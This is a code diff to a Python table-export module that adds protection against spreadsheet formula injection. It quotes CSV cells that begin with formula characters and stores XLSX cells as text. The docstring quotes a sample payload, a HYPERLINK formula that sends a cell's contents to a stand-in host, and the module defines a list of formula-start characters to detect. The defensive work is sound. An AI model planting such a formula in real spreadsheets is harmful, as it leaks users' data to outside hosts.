@@ -1,5 +1,11 @@
 """Tables a department opens as is: CSV in UTF-8 with a BOM (so Excel reads the Chinese), and
-XLSX with a frozen header row, sensible column widths and wrapped text."""
+XLSX with a frozen header row, sensible column widths and wrapped text.
+
+Every CSV and XLSX the tool writes goes through here, and no cell can become a formula: names,
+notes and units come from people outside the department (a provider called
+``=HYPERLINK("http://x/?"&A1,"点击")``). CSV text cells starting with = + - @, tab or CR get a
+leading ``'`` (the usual defence: Excel shows the text and runs nothing); XLSX text cells are
+stored as text, never as formulas, and keep their value unchanged."""
 
 from __future__ import annotations
 
@@ -14,6 +20,7 @@ from typing import Any
 from checklist.files import atomic
 
 MAX_WIDTH = 60  # characters; longer cells wrap
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheet programs read as the start of a formula
 
 
 @dataclass
@@ -23,11 +30,23 @@ class Sheet:
     rows: Sequence[Sequence[Any]]
 
 
-def csv_text(header: Sequence[str], rows: Sequence[Sequence[Any]]) -> str:
+def csv_cell(value: Any) -> Any:
+    """A value as a CSV cell that a spreadsheet shows and never evaluates."""
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
+def csv_text(header: Sequence[str], rows: Sequence[Sequence[Any]], *, notes: Sequence[str] = ()) -> str:
+    """CSV with a BOM; ``notes`` are '#' lines before the header, one cell each (quoted only when
+    a value in them holds a comma, quote or line break, so it can never spill into other cells)."""
     buf = io.StringIO()
     w = csv.writer(buf, lineterminator="\r\n")
-    w.writerow(header)
-    w.writerows(["" if v is None else v for v in row] for row in rows)
+    w.writerows([csv_cell(note)] for note in notes)
+    w.writerow([csv_cell(v) for v in header])
+    w.writerows([csv_cell(v) for v in row] for row in rows)
     return "\ufeff" + buf.getvalue()
 
 
@@ -49,6 +68,10 @@ def write_xlsx(path: Path, sheets: Sequence[Sheet]) -> None:
         ws.append(list(sheet.header))
         for row in sheet.rows:
             ws.append(["" if v is None else v for v in row])
+        for line in ws.iter_rows():
+            for cell in line:
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"  # openpyxl takes a string starting with '=' for a formula
         for cell in ws[1]:
             cell.font, cell.fill, cell.alignment = head_font, head_fill, wrap
         for row in ws.iter_rows(min_row=2):
